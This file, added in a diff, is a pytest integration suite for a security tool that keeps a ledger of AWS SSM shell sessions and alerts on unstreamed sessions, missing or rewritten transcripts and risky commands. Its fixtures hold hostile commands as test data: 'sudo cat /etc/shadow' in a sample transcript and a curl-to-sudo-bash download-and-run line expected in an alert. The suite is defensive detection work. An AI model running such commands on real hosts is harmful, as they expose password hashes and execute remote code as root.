@@ -1,0 +1,392 @@
+"""The session ledger end to end: real-format EventBridge events (events/ledger-*.json and the CloudTrail samples)
+through the ledger function's handler, the subscription function's plain-text path, moto behind DynamoDB, SNS, S3,
+SQS and Secrets Manager, the loopback recorder as the Slack webhook, and a DescribeSessions fake shaped like boto3's
+(moto 5 does not implement describe_sessions) behind the real adapter.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+from collections.abc import Iterator
+from dataclasses import dataclass
+from datetime import datetime
+from functools import partial
+from pathlib import Path
+from types import ModuleType
+from typing import Any
+
+import boto3
+import pytest
+from moto import mock_aws
+from sessionguard.adapters.session_ledger import SessionTable, SsmSessionDirectory
+from sessionguard.alerting import ledger_alerts, session_alerts
+from sessionguard.ledger.calls import session_call
+from sessionguard.ledger.model import StreamDelivery
+
+from tests.conftest import HttpRecorder
+from tests.support import AlertStack, FakeLambdaContext, fresh_powertools, load_function
+from tests.unit.make_event_fixtures import awslogs
+from tests.unit.make_ledger_fixtures import BUCKET, COMMAND_SESSION, COMMAND_TRANSCRIPT, SHELL_SESSION
+
+REPO = Path(__file__).resolve().parents[2]
+EVENTS = REPO / "events"
+REGION = "us-east-1"
+TABLE = "sessionguard-SessionLedgerTable"
+SESSION_GROUP = "/aws/ssm/sessionguard/sessions"
+SANITIZED_GROUP = "/aws/ssm/sessionguard/sanitized"
+START = 1_795_705_574  # 2026-11-26T15:06:14Z, the StartSession sample's eventTime
+SHELL_TRANSCRIPT = (
+    "Script started on 2026-11-26 15:06:15+00:00\n"
+    "sh-4.2$ id\r\n"
+    "uid=1001(ssm-user) gid=1001(ssm-user)\r\n"
+    "sh-4.2$ sudo cat /etc/shadow\r\n"
+    "root:*LOCK*:14600::::::\r\n"
+    "sh-4.2$ exit\r\n"
+    "Script done on 2026-11-26 15:10:40+00:00\n"
+)
+
+lambda_context = partial(
+    FakeLambdaContext,
+    function_name="sessionguard-SessionLedgerFunction-Ab12Cd34",
+    invoked_function_arn="arn:aws:lambda:us-east-1:123456789012:function:sessionguard-SessionLedgerFunction-Ab12Cd34",
+    aws_request_id="7e2d3c4b-5a69-7887-96a5-b4c3d2e1f003",
+)
+
+
+class FakeSsm:
+    """`describe_sessions` as boto3 answers it (botocore ssm service-2.json: State, MaxResults, NextToken, Filters;
+    Sessions with datetime StartDate/EndDate), two sessions per page so pagination is exercised."""
+
+    page_size = 2
+
+    def __init__(self) -> None:
+        self.active: list[dict[str, Any]] = []
+        self.history: list[dict[str, Any]] = []
+        self.requests: list[dict[str, Any]] = []
+
+    def describe_sessions(self, **request: Any) -> dict[str, Any]:
+        self.requests.append(request)
+        assert request["State"] in {"Active", "History"}
+        assert 1 <= request["MaxResults"] <= 200
+        sessions = self.active if request["State"] == "Active" else self.history
+        start = int(request.get("NextToken", "0"))
+        page = sessions[start : start + self.page_size]
+        answer: dict[str, Any] = {"Sessions": page}
+        if start + self.page_size < len(sessions):
+            answer["NextToken"] = str(start + self.page_size)
+        return answer
+
+    def end(self, session_id: str, at: int) -> None:
+        sample = copy.deepcopy(
+            json.loads((EVENTS / "ledger-describe-sessions-history.json").read_text())["Sessions"][0]
+        )
+        sample.update(SessionId=session_id, Status="Terminated", StartDate=datetime.fromtimestamp(START).astimezone(),
+                      EndDate=datetime.fromtimestamp(at).astimezone())  # fmt: skip
+        self.active = [s for s in self.active if s["SessionId"] != session_id]
+        self.history.append(sample)
+
+
+@dataclass
+class Stack(AlertStack):
+    ssm: FakeSsm
+    clock: list[int]
+
+    def at(self, epoch: int) -> None:
+        self.clock[0] = epoch
+
+    def table(self) -> SessionTable:
+        return SessionTable(TABLE, boto3.client("dynamodb", region_name=REGION))
+
+
+def create_ledger_table(client: Any) -> None:
+    """As template.yaml's SessionLedgerTable."""
+    client.create_table(
+        TableName=TABLE,
+        BillingMode="PAY_PER_REQUEST",
+        AttributeDefinitions=[
+            {"AttributeName": "session_id", "AttributeType": "S"},
+            {"AttributeName": "open", "AttributeType": "S"},
+            {"AttributeName": "first_seen", "AttributeType": "N"},
+        ],
+        KeySchema=[{"AttributeName": "session_id", "KeyType": "HASH"}],
+        GlobalSecondaryIndexes=[
+            {
+                "IndexName": "Open",
+                "KeySchema": [
+                    {"AttributeName": "open", "KeyType": "HASH"},
+                    {"AttributeName": "first_seen", "KeyType": "RANGE"},
+                ],
+                "Projection": {"ProjectionType": "KEYS_ONLY"},
+            }
+        ],
+    )
+
+
+@pytest.fixture
+def app() -> ModuleType:
+    return load_function("session_ledger")
+
+
+@pytest.fixture(autouse=True)
+def clean_powertools() -> Iterator[None]:
+    yield from fresh_powertools(ledger_alerts.default_outlets, session_alerts.default_outlets)
+
+
+@pytest.fixture
+def stack(monkeypatch: pytest.MonkeyPatch, http_recorder: HttpRecorder) -> Iterator[Stack]:
+    with mock_aws():
+        create_ledger_table(boto3.client("dynamodb", region_name=REGION))
+        s3 = boto3.client("s3", region_name=REGION)
+        s3.create_bucket(Bucket=BUCKET)
+        s3.put_bucket_versioning(Bucket=BUCKET, VersioningConfiguration={"Status": "Enabled"})
+        sqs = boto3.client("sqs", region_name=REGION)
+        failure_queue_url = sqs.create_queue(QueueName="sessionguard-alert-failures")["QueueUrl"]
+        boto3.client("logs", region_name=REGION).create_log_group(logGroupName=SANITIZED_GROUP)
+        stack = Stack.create(http_recorder, ssm=FakeSsm(), clock=[START])
+        stack.set_environment(
+            monkeypatch,
+            SESSION_LEDGER_TABLE=TABLE,
+            TRANSCRIPT_BUCKET=BUCKET,
+            TRANSCRIPT_KEY_PREFIX="sessions",
+            SESSION_LOG_GROUP=SESSION_GROUP,
+            AWS_ACCOUNT_ID="123456789012",
+            NOT_STREAMED_AFTER_MINUTES="5",
+            NO_TRANSCRIPT_AFTER_MINUTES="15",
+            SANITIZED_LOG_GROUP=SANITIZED_GROUP,
+            FAILURE_QUEUE_URL=failure_queue_url,
+        )
+        _, outlets = ledger_alerts.default_outlets()
+        outlets.directory = SsmSessionDirectory(stack.ssm, max_pages=3)  # type: ignore[arg-type]
+        outlets.wall_clock = lambda: float(stack.clock[0])
+        yield stack
+
+
+def invoke(app: ModuleType, event: dict[str, Any]) -> dict[str, Any]:
+    return app.lambda_handler(event, lambda_context())  # type: ignore[no-any-return]
+
+
+def sample(name: str) -> dict[str, Any]:
+    return json.loads((EVENTS / name).read_text(encoding="utf-8"))  # type: ignore[no-any-return]
+
+
+def schedule() -> dict[str, Any]:
+    return sample("ledger-scheduled-event.json")
+
+
+def start_shell(app: ModuleType, stack: Stack) -> None:
+    start = sample("cloudtrail-ssm-start-session-logged-shell.json")
+    stack.ssm.active.append({"SessionId": SHELL_SESSION, "Status": "Connected", "Target": "i-0fedcba9876543210"})
+    invoke(app, start)
+
+
+def stream(stack: Stack, lines: int, batch: str = "b-1") -> None:
+    """What the subscription function writes for one delivery of the shell session's stream."""
+    delivery = StreamDelivery(SHELL_SESSION, batch, START + 1, START + 30, events=3, lines=lines)
+    assert stack.table().record_stream(delivery, START + 30, START + 86400) is not None
+
+
+def put_transcript(stack: Stack, session_id: str, text: str) -> dict[str, Any]:
+    """The agent's upload, and the Object Created event S3 sends to EventBridge for it."""
+    key = f"sessions/{session_id}.log"
+    answer = boto3.client("s3", region_name=REGION).put_object(Bucket=BUCKET, Key=key, Body=text.encode())
+    event = sample("ledger-s3-object-created.json")
+    event["detail"]["object"].update(key=key, size=len(text.encode()), **{"version-id": answer["VersionId"]})
+    return event
+
+
+def findings_sent(stack: Stack) -> list[str]:
+    return [m["MessageAttributes"]["rule_id"]["StringValue"] for m in stack.sns_messages()
+            if m["MessageAttributes"].get("alert_type", {}).get("StringValue") == "ledger"]  # fmt: skip
+
+
+def record(stack: Stack, session_id: str = SHELL_SESSION) -> dict[str, Any]:
+    found = stack.table().get(session_id)
+    assert found is not None
+    return found.to_json()
+
+
+# --- Start ------------------------------------------------------------------------------------------------------
+
+
+def test_start_session_is_recorded_with_who_from_where_and_how(app: ModuleType, stack: Stack) -> None:
+    summary = invoke(app, sample("cloudtrail-ssm-start-session-logged-shell.json"))
+    assert summary["kind"] == "session-call"
+    row = record(stack)
+    assert row["user"].endswith("assumed-role/AWSReservedSSO_AdministratorAccess_0a1b2c3d4e5f6a7b/jane.roe")
+    assert (row["source_ip"], row["started_via"], row["mfa"]) == ("203.0.113.24", "cli", "false")
+    assert (row["target"], row["document"], row["started_at"]) == ("i-0fedcba9876543210", "SSM-SessionManagerRunShell",
+                                                                    "2026-11-26T15:06:14Z")  # fmt: skip
+    invoke(app, sample("ledger-cloudtrail-terminate-session.json"))
+    assert record(stack)["ended_at"] == "2026-11-26T15:30:41Z"
+
+
+# --- SG-LG-001 --------------------------------------------------------------------------------------------------
+
+
+def test_sg_lg_001_a_shell_session_that_never_streams_is_reported_with_its_context(
+    app: ModuleType, stack: Stack
+) -> None:
+    start_shell(app, stack)
+    stack.at(START + 301)
+    summary = invoke(app, schedule())
+    assert summary["findings"] == {"SG-LG-001": 1}
+    assert findings_sent(stack) == ["SG-LG-001"]
+    body = stack.sns_messages()[0]["Body"]
+    document = json.loads(body.split("Alert JSON:\n", 1)[1])
+    assert document["session"]["source_ip"] == "203.0.113.24"
+    assert document["session"]["started_via"] == "cli"
+    assert document["session"]["mfa"] == "false"
+    (post,) = stack.slack_posts()
+    assert "Shell session not streamed" in json.dumps(post)
+    # the next run does not raise it again
+    stack.at(START + 900)
+    assert invoke(app, schedule())["findings"] == {}
+    assert record(stack)["findings"] == ["SG-LG-001"]
+
+
+def test_sg_lg_001_a_streamed_shell_session_is_not_reported(app: ModuleType, stack: Stack) -> None:
+    start_shell(app, stack)
+    stream(stack, lines=6)
+    stack.at(START + 600)
+    assert invoke(app, schedule())["findings"] == {}
+    assert findings_sent(stack) == []
+
+
+# --- SG-LG-002 and the transcript scan --------------------------------------------------------------------------
+
+
+def test_sg_lg_002_commands_past_the_stream_are_found_and_only_they_are_scanned(app: ModuleType, stack: Stack) -> None:
+    start_shell(app, stack)
+    stream(stack, lines=2)  # `id` and its output streamed; then the stream died
+    summary = invoke(app, put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT))
+    assert summary["findings"] == {"SG-LG-002": 1}
+    assert summary["transcript_lines_scanned"] == 3
+    rule_ids = [m["MessageAttributes"]["rule_id"]["StringValue"] for m in stack.sns_messages()]
+    assert "SG-CRED-001" in rule_ids  # `sudo cat /etc/shadow`, typed after the stream stopped
+    alert = next(m for m in stack.sns_messages() if m["MessageAttributes"]["rule_id"]["StringValue"] == "SG-CRED-001")
+    assert "Source IP:   203.0.113.24" in alert["Body"]  # the command alert carries the session's context
+
+
+def test_sg_lg_002_a_transcript_that_holds_what_was_streamed_raises_nothing(app: ModuleType, stack: Stack) -> None:
+    start_shell(app, stack)
+    stream(stack, lines=5)  # everything streamed (its alerts went out from the subscription function)
+    summary = invoke(app, put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT))
+    assert summary["findings"] == {}
+    assert summary["transcript_lines_scanned"] == 0
+    assert stack.sns_messages() == []
+
+
+def test_a_never_streamed_sessions_transcript_is_scanned_whole(app: ModuleType, stack: Stack) -> None:
+    start_shell(app, stack)
+    summary = invoke(app, put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT))
+    assert summary["transcript_lines_scanned"] == 5
+    assert summary["command_alerts"] >= 1
+
+
+# --- SG-LG-003 --------------------------------------------------------------------------------------------------
+
+
+def test_sg_lg_003_a_session_that_ended_without_a_transcript_is_reported(app: ModuleType, stack: Stack) -> None:
+    start_shell(app, stack)
+    stream(stack, lines=6)
+    stack.ssm.end(SHELL_SESSION, START + 600)  # the user typed exit: no TerminateSession call
+    stack.at(START + 700)
+    summary = invoke(app, schedule())
+    assert summary["closed"] == 1
+    assert summary["findings"] == {}
+    stack.at(START + 600 + 900)
+    assert invoke(app, schedule())["findings"] == {"SG-LG-003": 1}
+    assert record(stack)["end_source"] == "DescribeSessions"
+
+
+def test_sg_lg_003_a_session_whose_transcript_arrived_is_not_reported_and_is_let_go(
+    app: ModuleType, stack: Stack
+) -> None:
+    start_shell(app, stack)
+    stream(stack, lines=5)
+    invoke(app, sample("ledger-cloudtrail-terminate-session.json"))
+    invoke(app, put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT))
+    stack.at(START + 7200)
+    summary = invoke(app, schedule())
+    assert (summary["findings"], summary["settled"]) == ({}, 1)
+    assert findings_sent(stack) == []
+
+
+# --- SG-LG-004 --------------------------------------------------------------------------------------------------
+
+
+def test_sg_lg_004_a_stream_no_session_started_is_reported_after_the_grace(app: ModuleType, stack: Stack) -> None:
+    ghost = StreamDelivery("ghost-0a1b2c3d4e5f60718", "b-1", START, START + 5, events=2, lines=4)
+    stack.table().record_stream(ghost, START + 5, START + 86400)
+    stack.at(START + 600)
+    assert invoke(app, schedule())["findings"] == {}  # CloudTrail may still be on its way
+    stack.at(START + 1300)
+    assert invoke(app, schedule())["findings"] == {"SG-LG-004": 1}
+
+
+def test_sg_lg_004_a_stream_whose_start_session_arrives_late_is_not(app: ModuleType, stack: Stack) -> None:
+    stream(stack, lines=6)
+    stack.at(START + 240)
+    start_shell(app, stack)  # CloudTrail's event arrived 4 minutes after the first stream event
+    stack.at(START + 1300)
+    assert invoke(app, schedule())["findings"] == {}
+
+
+# --- SG-LG-005 --------------------------------------------------------------------------------------------------
+
+
+def test_sg_lg_005_a_second_version_of_a_transcript_is_reported(app: ModuleType, stack: Stack) -> None:
+    start_shell(app, stack)
+    stream(stack, lines=5)
+    invoke(app, put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT))
+    summary = invoke(app, put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT.replace("cat /etc/shadow", "ls")))
+    assert summary["findings"] == {"SG-LG-005": 1}
+    assert record(stack)["transcript_versions"] == 2
+
+
+def test_sg_lg_005_the_same_notification_twice_is_not_an_overwrite(app: ModuleType, stack: Stack) -> None:
+    start_shell(app, stack)
+    stream(stack, lines=5)
+    event = put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT)
+    invoke(app, event)
+    assert invoke(app, event)["findings"] == {}
+    assert record(stack)["transcript_versions"] == 1
+
+
+# --- the command session: plain-text upload through the subscription function -----------------------------------
+
+
+def test_a_command_sessions_plain_text_upload_is_scanned_and_its_risky_command_reaches_sns_and_slack(
+    app: ModuleType, stack: Stack
+) -> None:
+    invoke(app, sample("ledger-cloudtrail-start-interactive-bash.json"))
+    subscription = load_function("session_alerts")
+    summary = subscription.lambda_handler(awslogs(sample("ledger-subscription-plain-text.json")), lambda_context())
+    assert summary["malformed"] == 0
+    messages = stack.sns_messages()
+    assert [m["MessageAttributes"]["rule_id"]["StringValue"] for m in messages] == ["SG-DLEX-001"]
+    body = messages[0]["Body"]
+    assert "curl -fsSL http://203.0.113.50/i.sh | sudo bash" in body
+    assert "Started via: cli" in body
+    assert "hunter2" not in body
+    assert any("SG-DLEX-001" in json.dumps(post) for post in stack.slack_posts())
+    row = record(stack, COMMAND_SESSION)
+    assert (row["plain_text_events"], row["streamed"]) == (1, False)
+    # its S3 transcript (the same typescript) is not scanned a second time
+    summary = invoke(app, put_transcript(stack, COMMAND_SESSION, COMMAND_TRANSCRIPT))
+    assert summary["transcript_lines_scanned"] == 0
+
+
+def test_describe_sessions_is_read_in_bounded_pages(app: ModuleType, stack: Stack) -> None:
+    for n in range(9):
+        stack.ssm.active.append({"SessionId": f"other-{n:017x}", "Status": "Connected"})
+    start_shell(app, stack)
+    stack.at(START + 60)
+    invoke(app, schedule())
+    active_calls = [r for r in stack.ssm.requests if r["State"] == "Active"]
+    assert len(active_calls) == 3  # max_pages, although a fourth page exists
+
+
+def test_session_call_reads_the_resume_sample() -> None:
+    assert session_call(sample("ledger-cloudtrail-resume-session.json")) is not None
